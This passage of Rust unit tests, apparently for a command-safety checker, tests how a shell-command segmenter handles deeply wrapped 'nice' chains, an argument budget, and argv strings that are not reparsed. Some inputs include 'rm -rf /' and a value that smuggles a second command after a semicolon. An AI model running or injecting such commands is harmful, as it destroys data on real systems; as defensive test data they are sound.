        // Each `nice` holds every word after it; the budget stops the chain, unverifiably.
        let cmd = format!("{}rm {}", "nice ".repeat(20), "x ".repeat(5000));
        let segs = segments_of_string(&cmd);
        let held: usize = segs.iter().map(|s| s.args.len()).sum();
        assert!(held <= 2 * cmd.len() + 4096, "{held}");
        assert!(
            segs.last()
                .unwrap()
                .unverifiable
                .as_deref()
                .is_some_and(|r| r.contains("arguments"))
        );
        // An ordinary wrapped command is well within it.
        let segs = segments_of_string("sudo nice -n 5 rm -rf build");
        assert!(segs.iter().all(|s| s.unverifiable.is_none()));
    }

    #[test]
    fn argv_is_not_reparsed() {
        let segs = segments_of_argv(&["echo".into(), "rm -rf / ; x".into()]);
        assert_eq!(segs.len(), 1);
        assert_eq!(segs[0].args, ["rm -rf / ; x"]);
    }
}
